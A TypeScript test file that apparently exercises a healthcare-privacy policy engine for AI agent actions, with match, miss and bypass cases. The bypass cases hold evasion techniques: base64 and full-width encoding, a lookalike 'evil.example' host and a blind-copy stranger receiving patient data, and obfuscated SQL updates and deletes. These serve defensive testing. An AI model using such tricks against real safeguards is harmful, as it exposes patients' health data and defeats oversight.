import {
  act,
  bash,
  code,
  execute,
  mail,
  post,
  query,
  request,
  slack,
  tellStories,
  tool,
  write,
  type Case,
} from '../../support/policy-stories.ts';

const SICK = 'The patient Kim was diagnosed with diabetes in May.';
const CARE = { facts: { purpose: 'treatment' } };
const RESEARCH = { facts: { purpose: 'research' } };
const EMERGENCY = { facts: { purpose: 'break_glass' } };
const CLINIC = { to: ['ada@clinic.example'] };
const EHR = 'https://ehr.example.com/notes';
const encoded = (text: string) => Buffer.from(text).toString('base64');
const NOBODY = { principal: { kind: 'unknown', identified: false } } as const;
const rows = (given: readonly Record<string, string>[]) => ({
  output: { rows: [...given], rowCount: given.length, truncated: false },
});
const patients = (count: number) =>
  rows(Array.from({ length: count }, (_, at) => ({ diagnosis: `Diabetes mellitus ${at}` })));
const text = (given: string) => ({ output: { text: given, size: given.length } });
const read = (given: string, more: Omit<Case, 'action'> = {}) =>
  act('file.read', { path: 'a.txt' }, { ...CARE, ...text(given), ...more });
const PEOPLE = 'SELECT diagnosis FROM visits LIMIT 500';
const ONE = "UPDATE visits SET diagnosis = 'I10' WHERE id = 7";
const wide = (words: string) => words.replace(/\w/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0));

tellStories(
  'hipaa-healthcare',
  {
    'recipient-without-agreement': {
      match: {
        'a mail to a stranger': mail(SICK, {}, CARE),
        'a service without an agreement': post('https://crm.example.com/notes', { diagnosis: 'Diabetes' }, CARE),
        'a model without one': act('model.generate', { prompt: SICK }, CARE),
      },
      miss: {
        'a service with an agreement': post(EHR, { diagnosis: 'Diabetes' }, CARE),
        'a mail to a clinic with one': mail(SICK, { to: ['ada@clinic.example'] }, CARE),
        'a mail to a colleague': mail(SICK, { to: ['ada@ourcompany.example'] }, CARE),
        'a mail about something else': mail('The parcel is late.'),
        'a model with one': act(
          'model.generate',
          { connection: 'llm', prompt: SICK },
          { connections: { llm: { kind: 'anthropic' } }, ...CARE },
        ),
      },
      bypass: {
        base64: mail(encoded(SICK), {}, CARE),
        'letters of full width': mail(wide(SICK), {}, CARE),
        'an attachment': mail('See attached.', { attachments: [{ filename: 'a.txt', content: SICK }] }, CARE),
        'a stranger in blind copy': mail(SICK, { to: ['ada@clinic.example'], bcc: ['eve@other.example'] }, CARE),
        'a host that begins like one with an agreement': post(
          'https://ehr.example.com.evil.example/',
          { diagnosis: 'Diabetes' },
          CARE,
        ),
        'a channel that is named like one with an agreement': act(
          'slack.post',
          { connection: 'partner', channel: '#ehr.example.com', text: SICK },
          { connections: { partner: { kind: 'slack', team: 'T0PARTNER' } }, ...CARE },
        ),
        'an address with an agreement as the argument of a server without': tool(
          'proxy.forward',
          { url: EHR, diagnosis: 'Diabetes' },
          CARE,
        ),
        'a program': code(`import requests\nrequests.post('${EHR}', json={'diagnosis': 'Diabetes'})`, 'python', CARE),
      },
    },
    'purpose-not-permitted': {
      match: {
        'no purpose': query('SELECT diagnosis FROM visits LIMIT 1'),
        marketing: query('SELECT diagnosis FROM visits LIMIT 1', { facts: { purpose: 'marketing' } }),
      },
      miss: {
        treatment: query('SELECT diagnosis FROM visits LIMIT 1', CARE),
        'an authorisation that was checked': query('SELECT diagnosis FROM visits LIMIT 1', {
          facts: { purpose: 'marketing', consent: 'verified' },
        }),
        'other columns': query('SELECT id FROM visits LIMIT 1'),
      },
      bypass: {
        'quoted names and comments': query('SELECT/**/"DIAGNOSIS" FROM visits LIMIT 1'),
        'all columns': query('SELECT * FROM visits LIMIT 1', patients(1)),
        'a purpose that begins with a permitted one': query('SELECT diagnosis FROM visits LIMIT 1', {
          facts: { purpose: 'treatment of customers with offers' },
        }),
        'an authorisation that nobody checked': query('SELECT diagnosis FROM visits LIMIT 1', {
          facts: { consent: 'unknown' },
        }),
        'a tool of another server': tool('pg.query', { sql: 'SELECT diagnosis FROM visits' }),
        'base64 in a result': read(encoded(SICK), { facts: {} }),
      },
    },
    'more-than-minimum': {
      match: { 'a result of 150 patients': query(PEOPLE, { ...CARE, ...patients(150) }) },
      miss: {
        'a result of a hundred': query(PEOPLE, { ...CARE, ...patients(100) }),
        'a long result about something else': query('SELECT region FROM orders LIMIT 500', {
          ...rows(Array.from({ length: 150 }, (_, at) => ({ region: `North ${at}` }))),
        }),
      },
      bypass: {
        'a column under another name': query('SELECT a FROM v LIMIT 500', {
          ...CARE,
          ...rows(Array.from({ length: 150 }, () => ({ a: SICK }))),
        }),
        'a number that is declared too low': query(PEOPLE, {
          facts: { purpose: 'treatment', recordCount: 1 },
          ...patients(150),
        }),
        'a tool of another server': tool(
          'ehr.list_visits',
          {},
          {
            ...CARE,
            output: { content: Array.from({ length: 150 }, () => ({ diagnosis: 'Diabetes mellitus' })) },
          },
        ),
        'a table in a text': read(`id,diagnosis\n${'7,Diabetes mellitus\n'.repeat(150)}`),
      },
    },
    'research-identifiers': {
      match: {
        'a result with names': query('SELECT first_name, diagnosis FROM visits LIMIT 1', {
          ...RESEARCH,
          ...rows([{ last_name: 'Byron', diagnosis: 'Diabetes mellitus' }]),
          gone: 'Byron',
        }),
        'a mail with addresses': mail(`${SICK} Write to kim.lee@customer.example.`, CLINIC, {
          ...RESEARCH,
          gone: 'kim.lee',
        }),
      },
      miss: {
        'data without names': mail('year,diagnosis\n2025,Diabetes mellitus\n', CLINIC, RESEARCH),
        treatment: query('SELECT last_name, diagnosis FROM visits LIMIT 1', {
          ...CARE,
          ...rows([{ last_name: 'Byron', diagnosis: 'Diabetes mellitus' }]),
        }),
      },
      bypass: {
        'camel case': mail('dateOfBirth,diagnosis\n1990-04-01,Diabetes mellitus\n', CLINIC, {
          ...RESEARCH,
          gone: '1990-04-01',
        }),
        'JSON inside a text': read(JSON.stringify([{ phone: '+41 44 668 18 00', diagnosis: 'Diabetes' }]), {
          ...RESEARCH,
          gone: '668 18 00',
        }),
        'HTML entities': mail(
          '',
          { ...CLINIC, html: `<p>${SICK} kim.lee&#64;customer.example</p>` },
          {
            ...RESEARCH,
            gone: 'kim.lee',
          },
        ),
        'an address of the network': mail('ip,diagnosis\n203.0.113.7,Diabetes mellitus\n', CLINIC, {
          ...RESEARCH,
          gone: '203.0.113.7',
        }),
      },
    },
    'unencrypted-transmission': {
      match: { 'an address without encryption': post(EHR.replace('https', 'http'), { diagnosis: 'Diabetes' }, CARE) },
      miss: { 'the same with encryption': post(EHR, { diagnosis: 'Diabetes' }, CARE) },
      bypass: {
        capitals: post('HTTP://EHR.example.com/notes', { diagnosis: 'Diabetes' }, CARE),
        'the port of https': post('http://ehr.example.com:443/notes', { diagnosis: 'Diabetes' }, CARE),
        'the address instead of the body': request(
          `http://ehr.example.com/find?note=${encodeURIComponent(SICK)}`,
          {},
          CARE,
        ),
        'another method': request('http://ehr.example.com/', { method: 'PUT', body: SICK }, CARE),
      },
    },
    'unidentified-user': {
      match: { 'nobody behind the agent': read('x', NOBODY) },
      miss: { 'a member behind it': read('x') },
      bypass: {
        'a person who has left': read('x', { principal: { kind: 'person', identified: false } }),
        'a service that nobody knows': query('SELECT 1', { principal: { kind: 'service', identified: false } }),
        'a tool of another server': tool('ehr.get_visit', { id: 7 }, NOBODY),
        'an emergency': query('SELECT diagnosis FROM visits', { ...NOBODY, ...EMERGENCY }),
      },
    },
    'record-changed': {
      match: {
        'a record that is altered': execute(ONE, CARE),
        'a record that is deleted': execute('DELETE FROM patients WHERE id = 7', CARE),
      },
      miss: {
        'a new record': execute("INSERT INTO visits (diagnosis) VALUES ('I10')", CARE),
        'a query': query('SELECT diagnosis FROM visits LIMIT 1', CARE),
        'a query sent as a statement that may change': execute('SELECT diagnosis FROM visits LIMIT 1', CARE),
        'another table': execute("UPDATE orders SET state = 'sent' WHERE id = 7"),
        'a question to a model': act(
          'model.generate',
          { connection: 'llm', prompt: SICK },
          { connections: { llm: { kind: 'anthropic' } }, ...CARE },
        ),
      },
      bypass: {
        'the action for reads': query(ONE, CARE),
        'comments and case': execute('uPdAtE/**/visits SET "DIAGNOSIS" = NULL WHERE id = 7', CARE),
        'a DELETE inside WITH': query('WITH d AS (DELETE FROM patients RETURNING 1) SELECT count(*) FROM d', CARE),
        'a tool that claims to query': tool('pg.query', { sql: ONE }, CARE),
        'a tool that updates': tool('ehr.updateVisit', { id: 7, diagnosis: 'I10' }, CARE),
        'a method of a service': request(EHR, { method: 'PATCH', json: { diagnosis: 'I10' } }, CARE),
        'a program': code(`cursor.execute("${ONE.replaceAll("'", '')}")`, 'python', CARE),
        'a client in a command': bash(`psql -c "${ONE}"`, CARE),
      },
    },
    'break-glass': {
      match: { 'an emergency': query('SELECT diagnosis FROM visits LIMIT 1', EMERGENCY) },
      miss: {
        treatment: query('SELECT diagnosis FROM visits LIMIT 1', CARE),
        'an emergency without health data': query('SELECT id FROM orders LIMIT 1', EMERGENCY),
      },
      bypass: {
        'blanks around the word': query('SELECT diagnosis FROM visits LIMIT 1', {
          facts: { purpose: ' break_glass ' },
        }),
        'another action': slack(SICK, EMERGENCY),
        'all columns': query('SELECT * FROM visits LIMIT 1', { ...EMERGENCY, ...patients(1) }),
        'letters of full width': write('a.txt', wide(SICK), EMERGENCY),
      },
    },
    'disclosure-record': {
      match: { 'a query': query('SELECT diagnosis FROM visits LIMIT 1', CARE), 'a message': slack(SICK, CARE) },
      miss: { 'a query of orders': query('SELECT id FROM orders LIMIT 1') },
      bypass: {
        base64: write('a.txt', encoded(SICK), CARE),
        'letters of full width': slack(wide(SICK), CARE),
        'a quoted name in capitals': query('SELECT "DIAGNOSIS" AS x FROM visits LIMIT 1', CARE),
        'a denied attempt': mail(SICK),
        'a result': read(SICK),
      },
    },
  },
  { agreements: ['ehr.example.com', 'clinic.example', 'anthropic', 'terminal', 'pg', 'ehr'] },
);
